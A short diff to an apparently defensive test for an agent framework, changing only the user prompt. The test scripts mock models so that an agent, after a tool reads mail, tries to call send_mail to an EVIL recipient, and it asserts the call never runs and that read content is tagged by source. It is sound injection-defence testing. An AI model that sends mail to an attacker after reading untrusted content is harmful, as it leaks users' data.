@@ -47,7 +47,7 @@ test('what an agent as a tool has read counts as read by all, and its answer is 
     [[['mailer', { input: 'Look.' }]], [['send_mail', { to: EVIL }]]],
     [[['read_mail']], 'Nothing new.'],
   );
-  await runner.run(agent, 'What is new?');
+  await runner.run(agent, 'What is new? Then write a mail.');
   expect(ran).toEqual([]);
   expect(JSON.stringify(models.outer.requests[1]?.input)).toContain('from=mailer');
   expect(JSON.stringify(models.inner.requests[1]?.input)).toContain('from=read_mail');
